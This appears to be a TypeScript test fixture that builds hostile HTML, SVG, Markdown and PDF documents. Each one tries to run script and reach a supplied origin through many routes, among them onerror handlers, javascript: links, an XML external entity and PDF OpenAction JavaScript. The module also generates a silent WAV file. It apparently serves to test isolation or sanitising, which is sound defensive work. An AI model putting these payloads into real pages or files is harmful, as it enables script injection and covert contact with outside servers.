/** Documents that try to run script and to reach a server by every way that there is. */
const script = (origin: string): string =>
  `globalThis.owned = parent.owned = 1; fetch('${origin}/fetch'); new Image().src = '${origin}/script-image'; navigator.sendBeacon('${origin}/beacon')`;

export const hostileHtml = (origin: string): string => `<!doctype html>
<html manifest="${origin}/manifest"><head>
<base href="${origin}/">
<meta http-equiv="refresh" content="0; url=${origin}/refresh">
<meta http-equiv="Content-Security-Policy" content="img-src *">
<link rel="preconnect" href="${origin}"><link rel="dns-prefetch" href="${origin}"><link rel="prefetch" href="${origin}/prefetch">
<link rel="preload" as="image" href="${origin}/preload"><link rel="modulepreload" href="${origin}/module"><link rel="icon" href="${origin}/icon">
<link rel="stylesheet" href="${origin}/sheet"><link rel="prerender" href="${origin}/prerender">
<style>@import url(${origin}/import); @font-face{font-family:f;src:url(${origin}/font)} body{background:url(${origin}/background);font-family:f}</style>
<script>${script(origin)}</script><script src="${origin}/script"></script><script type="speculationrules">{"prefetch":[{"urls":["${origin}/rules"]}]}</script>
</head><body onload="${script(origin)}">
<p>Hostile</p><img src="${origin}/image" srcset="${origin}/srcset 2x" onerror="${script(origin)}"><img src=x onerror="${script(origin)}">
<picture><source srcset="${origin}/source"><img></picture><video src="${origin}/video" poster="${origin}/poster" autoplay></video><audio src="${origin}/audio" autoplay></audio>
<iframe src="${origin}/frame"></iframe><iframe srcdoc="<script>${script(origin)}</script><img src='${origin}/inner'>"></iframe>
<object data="${origin}/object"></object><embed src="${origin}/embed"><svg><image href="${origin}/svg-image"/><use href="${origin}/use#a"/><script>${script(origin)}</script></svg>
<form action="${origin}/form"><input autofocus onfocus="${script(origin)}"></form><a href="javascript:${script(origin)}" ping="${origin}/ping">link</a>
<div style="background:url(${origin}/style)">x</div><table background="${origin}/table"><tr><td>x</table><math><mtext><img src="${origin}/math"></mtext></math>
<template><img src="${origin}/template"></template><noscript><img src="${origin}/noscript"></noscript>
</body></html>`;

export const hostileSvg = (origin: string): string => `<?xml version="1.0"?>
<?xml-stylesheet href="${origin}/sheet" type="text/css"?>
<!DOCTYPE svg [<!ENTITY x SYSTEM "${origin}/entity">]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="80" height="40" onload="${script(origin)}">
<style>@import url(${origin}/import); rect{fill:url(${origin}/fill#a)}</style><script>${script(origin)}</script>
<rect width="80" height="40"/><image xlink:href="${origin}/image" width="10" height="10"/><use xlink:href="${origin}/use#a"/>
<foreignObject width="40" height="40"><body xmlns="http://www.w3.org/1999/xhtml"><img src="${origin}/html"/><iframe src="${origin}/frame"/></body></foreignObject>
<animate attributeName="href" values="${origin}/animate"/></svg>`;

export const hostileMarkdown = (origin: string): string => `# Hostile

![picture](${origin}/picture) [link](javascript:${encodeURIComponent(script(origin))})

<script>${script(origin)}</script><img src=x onerror="${script(origin)}"><iframe src="${origin}/frame"></iframe>
<link rel=preconnect href="${origin}"><meta http-equiv=refresh content="0;url=${origin}/refresh">
`;

/** Opens an address and runs script as soon as it is opened. */
export const hostilePdf = (origin: string): string => `%PDF-1.7
1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R/AA<</WC 5 0 R>>>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 100]/AA<</O 5 0 R>>>>endobj
4 0 obj<</S/URI/URI(${origin}/open)/Next 5 0 R>>endobj
5 0 obj<</S/JavaScript/JS(app.launchURL('${origin}/launch'); this.submitForm('${origin}/submit'); app.openDoc('${origin}/doc'))>>endobj
trailer<</Root 1 0 R>>
%%EOF`;

/** A tenth of a second of silence. */
export function wave(): Buffer {
  const samples = Buffer.alloc(1600);
  const head = Buffer.alloc(44);
  head.write('RIFF', 0);
  head.writeUInt32LE(36 + samples.length, 4);
  head.write('WAVEfmt ', 8);
  head.writeUInt32LE(16, 16);
  head.writeUInt16LE(1, 20);
  head.writeUInt16LE(1, 22);
  head.writeUInt32LE(8000, 24);
  head.writeUInt32LE(16_000, 28);
  head.writeUInt16LE(2, 32);
  head.writeUInt16LE(16, 34);
  head.write('data', 36);
  head.writeUInt32LE(samples.length, 40);
  return Buffer.concat([head, samples]);
}
